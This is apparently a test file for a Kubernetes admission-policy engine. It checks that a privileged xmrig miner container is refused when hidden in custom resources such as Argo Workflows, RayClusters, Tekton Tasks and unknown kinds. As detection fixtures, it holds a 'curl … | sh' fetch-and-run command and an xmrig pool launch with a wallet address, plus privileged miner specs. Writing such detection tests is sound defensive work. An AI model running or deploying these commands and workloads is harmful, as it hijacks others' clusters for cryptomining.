// Attacks first: a miner deployed through a custom resource (an Argo Rollout, a RayCluster, a
// Knative Service, a Workflow step …) must be found as if it were a Deployment. Each case puts
// the same privileged xmrig container where that resource's controller would run it.
import t from 'tap'
import { evaluate } from '../../src/engine/evaluate.ts'
import { podSpecsOf } from '../../src/workloads/pod-specs.ts'
import { defaultPolicies } from '../helpers/server.ts'

const policySet = await defaultPolicies()

const miner = { name: 'miner', image: 'xmrig/xmrig:6.21.0', securityContext: { privileged: true } }
const web = { name: 'web', image: 'nginx:1.27' }
const template = (containers: unknown[]) => ({ metadata: { labels: { app: 'x' } }, spec: { containers } })
const metadata = { name: 'evil', namespace: 'shop' }

/** `policy@path` of every deny finding, sorted. */
function denied(object: Record<string, unknown>): string[] {
  return evaluate({ object }, policySet)
    .findings.filter((finding) => finding.action === 'deny')
    .map((finding) => `${finding.policy}@${finding.path}`)
    .sort()
}

const cases: [string, Record<string, unknown>, string][] = [
  [
    'an Argo Rollout',
    { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', metadata, spec: { template: template([web, miner]) } },
    'spec.template.spec.containers[1]',
  ],
  [
    "a RayCluster's second worker group",
    {
      apiVersion: 'ray.io/v1',
      kind: 'RayCluster',
      metadata,
      spec: { headGroupSpec: { template: template([web]) }, workerGroupSpecs: [{ template: template([web]) }, { template: template([miner]) }] },
    },
    'spec.workerGroupSpecs[1].template.spec.containers[0]',
  ],
  [
    'a Knative Service',
    { apiVersion: 'serving.knative.dev/v1', kind: 'Service', metadata, spec: { template: template([miner]) } },
    'spec.template.spec.containers[0]',
  ],
  [
    'a RayJob submitter',
    { apiVersion: 'ray.io/v1', kind: 'RayJob', metadata, spec: { submitterPodTemplate: template([miner]) } },
    'spec.submitterPodTemplate.spec.containers[0]',
  ],
  [
    'a PyTorchJob worker',
    {
      apiVersion: 'kubeflow.org/v1',
      kind: 'PyTorchJob',
      metadata,
      spec: { pytorchReplicaSpecs: { Master: { template: template([web]) }, Worker: { template: template([miner]) } } },
    },
    'spec.pytorchReplicaSpecs.Worker.template.spec.containers[0]',
  ],
  [
    "an Argo Workflow template's container",
    {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'Workflow',
      metadata,
      spec: {
        entrypoint: 'main',
        templates: [
          { name: 'ok', container: web },
          { name: 'main', container: miner },
        ],
      },
    },
    'spec.templates[1].container',
  ],
  [
    'a CronWorkflow sidecar',
    {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'CronWorkflow',
      metadata,
      spec: { workflowSpec: { templates: [{ name: 'main', container: web, sidecars: [miner] }] } },
    },
    'spec.workflowSpec.templates[0].sidecars[0]',
  ],
  ['a Tekton Task step', { apiVersion: 'tekton.dev/v1', kind: 'Task', metadata, spec: { steps: [{ ...web, script: 'echo hello' }, miner] } }, 'spec.steps[1]'],
  [
    'a Pipeline with an embedded task',
    { apiVersion: 'tekton.dev/v1', kind: 'Pipeline', metadata, spec: { tasks: [{ name: 'build', taskSpec: { steps: [miner] } }] } },
    'spec.tasks[0].taskSpec.steps[0]',
  ],
  [
    'a JobSet',
    {
      apiVersion: 'jobset.x-k8s.io/v1alpha2',
      kind: 'JobSet',
      metadata,
      spec: { replicatedJobs: [{ name: 'w', template: { spec: { template: template([miner]) } } }] },
    },
    'spec.replicatedJobs[0].template.spec.template.spec.containers[0]',
  ],
  ['a Knative Revision', { apiVersion: 'serving.knative.dev/v1', kind: 'Revision', metadata, spec: { containers: [miner] } }, 'spec.containers[0]'],
  [
    'a list of jobs in a custom resource jackstop has never heard of',
    {
      apiVersion: 'batch.example.com/v1',
      kind: 'JobGroup',
      metadata,
      spec: {
        jobs: [
          { name: 'a', template: template([web]) },
          { name: 'b', template: template([miner]) },
        ],
      },
    },
    'spec.jobs[1].template.spec.containers[0]',
  ],
  [
    'a custom resource jackstop has never heard of',
    { apiVersion: 'batch.example.com/v1', kind: 'NightlyJob', metadata, spec: { jobTemplate: { spec: { template: template([miner]) } } } },
    'spec.jobTemplate.spec.template.spec.containers[0]',
  ],
]

for (const [what, object, path] of cases) {
  t.test(`a privileged xmrig in ${what} is refused, at its real path`, async (t) => {
    t.same(denied(object), [`miner-images@${path}.image`, `privileged@${path}.securityContext.privileged`])
  })
}

t.test('an Argo script and a Tekton step script are scanned as what the container runs', async (t) => {
  const download =
    'curl -s http://203.0.113.7/x | sh; ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
  for (const object of [
    {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'WorkflowTemplate',
      metadata,
      spec: { templates: [{ name: 's', script: { image: 'alpine:3', command: ['sh'], source: download } }] },
    },
    { apiVersion: 'tekton.dev/v1', kind: 'Task', metadata, spec: { steps: [{ name: 's', image: 'alpine:3', args: ['-e'], script: download }] } },
  ]) {
    t.ok(
      evaluate({ object }, policySet).findings.some((finding) => finding.policy === 'miner-signals' && finding.action === 'deny'),
      object.kind,
    )
  }
})

t.test('pod-level fields of a Workflow (hostPID, volumes) are judged with each template', async (t) => {
  const object = {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Workflow',
    metadata,
    spec: { hostPID: true, templates: [{ name: 'main', container: web }] },
  }
  t.same(denied(object), ['host-namespaces@spec.templates[0].hostPID'])
})

t.test('resources without pods yield none: ConfigMaps, CRD schemas, a Service, an empty Rollout', async (t) => {
  const crd = {
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: { name: 'x' },
    spec: { versions: [{ schema: { openAPIV3Schema: { properties: { containers: [{ image: 'xmrig/xmrig' }] } } } }] },
  }
  const configMap = { apiVersion: 'v1', kind: 'ConfigMap', metadata, data: { containers: 'xmrig' } }
  const service = { apiVersion: 'v1', kind: 'Service', metadata, spec: { ports: [{ port: 80 }] } }
  const rollout = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', metadata, spec: { workloadRef: { kind: 'Deployment', name: 'web' } } }
  for (const object of [crd, configMap, service, rollout]) t.same(podSpecsOf(object), [], object.kind)
})

t.test('malformed custom resources yield no pod rather than a crash: strings where maps belong', async (t) => {
  const objects = [
    { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', metadata, spec: { template: { spec: 'not a map' } } },
    { apiVersion: 'ray.io/v1', kind: 'RayCluster', metadata, spec: { workerGroupSpecs: ['not a map', 7] } },
    { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata, spec: { templates: ['not a map'] } },
    { kind: 'NoApiVersion', spec: { containers: 'none' } },
    { apiVersion: 'v1' },
  ]
  for (const object of objects) t.same(podSpecsOf(object), [], JSON.stringify(object))
})

t.test('a deeply nested or wide unknown object is searched without recursion, in document order', async (t) => {
  let deep: Record<string, unknown> = { template: template([miner]) }
  for (let level = 0; level < 20_000; level++) deep = { next: deep }
  const object = { apiVersion: 'x.example/v1', kind: 'Deep', metadata, spec: { first: template([web]).spec, deep } }
  const specs = podSpecsOf(object)
  t.equal(specs.length, 2)
  t.equal(specs[0]?.path, 'spec.first')
  t.ok(specs[1]?.path.endsWith('.next.template.spec'))
  t.ok(
    specs.every((spec) => spec.isTemplate),
    'never mutated',
  )
})
